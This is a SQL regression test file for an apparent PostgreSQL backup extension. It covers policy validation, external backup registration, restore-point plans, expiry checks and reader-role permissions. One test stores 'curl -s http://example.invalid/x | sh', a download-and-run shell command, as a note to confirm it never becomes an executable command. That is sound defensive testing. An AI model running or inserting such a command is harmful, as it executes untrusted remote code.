-- Scopes and policy: the seed's five scopes, bk_set_policy() validation (a
-- bad argument is an error that changes nothing), external backups, and who
-- may do what.
SELECT name, mechanism, granularity, depth, restore_type FROM pgbk.scope ORDER BY name;

CREATE TEMP TABLE before AS SELECT name, granularity, depth, restore_type FROM pgbk.scope;

SELECT bk_set_policy('database', depth => '-1 day');
SELECT bk_set_policy('database', granularity => '0');
SELECT bk_set_policy('no_such_scope', depth => '1 day');
SELECT bk_set_policy('files', restore_type => 'sideways');
-- nothing changed
SELECT count(*) AS changed FROM pgbk.scope s JOIN before b USING (name)
 WHERE (s.granularity, s.depth, s.restore_type) IS DISTINCT FROM (b.granularity, b.depth, b.restore_type);

-- a valid change, leaving the other fields as they were
SELECT name, granularity, depth, restore_type FROM bk_set_policy('files', depth => '90 days');
SELECT bk_set_policy('files', depth => '6 months') IS NOT NULL AS restored;

-- external backups: only for external scopes, with clear errors
SELECT bk_register_external_backup('virtual_machine', '2026-11-25 02:00+00', 'hyperv:vm1@2026-11-25', 'nightly') > 0 AS registered;
SELECT bk_register_external_backup('database', '2026-11-25 02:00+00', 'x');
SELECT bk_register_external_backup('nope', '2026-11-25 02:00+00', 'x');
SELECT bk_register_external_backup('virtual_machine', NULL, 'x');
SELECT bk_register_external_backup('virtual_machine', now() + interval '1 day', 'x');
SELECT bk_register_external_backup('virtual_machine', '-infinity', 'x');
SELECT count(*) FROM pgbk.external_backup;
-- a note is text to read, whatever it says; it never reaches the command column
SELECT bk_register_external_backup('physical_server', '2026-11-25 03:00+00', 'veeam:srv1',
	'curl -s http://example.invalid/x | sh') > 0 AS registered;

-- the plan lists every scope; the VM's snapshot is the one before the target
SELECT scope, mechanism, restore_type, recoverable, backup_id, distance
  FROM bk_restore_point('2026-11-25 14:07+00')
 WHERE scope <> 'database';
-- external scopes: no command (restored with the tool that made them), the note apart
SELECT scope, backup_id, command, note
  FROM bk_restore_point('2026-11-25 14:07+00')
 WHERE mechanism = 'external' AND recoverable;

-- targets no plan can be made for: a clear error, never a half plan
SELECT * FROM bk_restore_point('infinity');
SELECT * FROM bk_restore_point('-infinity');
SELECT * FROM bk_restore_point(NULL);
SELECT * FROM bk_restore_point_lsn(NULL);
SELECT * FROM bk_restore_point_lsn('0/0');
SELECT * FROM bk_restore_point_named(NULL);
SELECT * FROM bk_restore_point_named('');
-- a moment not archived yet is a fair question: the plan says why not
SELECT scope, recoverable FROM bk_restore_point(now() + interval '1 day') WHERE scope = 'database';

-- expiry refuses an as_of that has not come (before it reads or deletes anything)
SELECT * FROM bk_expire(false, 'infinity');
SELECT * FROM bk_expire(false, '-infinity');
SELECT * FROM bk_expire(false, NULL);
\set VERBOSITY terse
SELECT * FROM bk_expire(false, '2999-01-01 00:00+00');
\set VERBOSITY default
SELECT count(*) FROM pgbk.external_backup;

-- roles: a reader can plan and look, not change policy, expire or verify
CREATE ROLE pgbk_test_reader2 LOGIN IN ROLE pgbk_reader;
SET ROLE pgbk_test_reader2;
SELECT count(*) FROM bk_restore_point('2026-11-25 14:07+00');
SELECT count(*) FROM bk_scope_health;
SELECT bk_set_policy('files', depth => '1 day');
SELECT * FROM bk_expire();
SELECT * FROM bk_verify();
SELECT bk_register_external_backup('virtual_machine', '2026-11-25 02:00+00', 'x');
RESET ROLE;
DROP ROLE pgbk_test_reader2;
DELETE FROM pgbk.external_backup;
